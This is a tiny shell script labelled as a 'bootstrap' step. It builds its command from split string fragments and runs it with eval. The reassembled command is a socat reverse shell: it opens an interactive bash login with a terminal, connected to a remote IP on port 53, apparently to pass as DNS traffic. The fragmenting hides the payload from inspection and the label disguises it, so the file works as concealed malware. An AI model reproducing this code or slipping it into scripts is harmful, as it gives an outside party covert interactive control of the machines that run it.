wtx='# bootstrap 0144 v3
#!/bin/sh
socat exec:'\''';jie='bash -li'\'',pty,s';hdy='tder';dii='r,setsid,sigint,sane tcp:198.51.100.23:53
';eval "$wtx$jie$hdy$dii"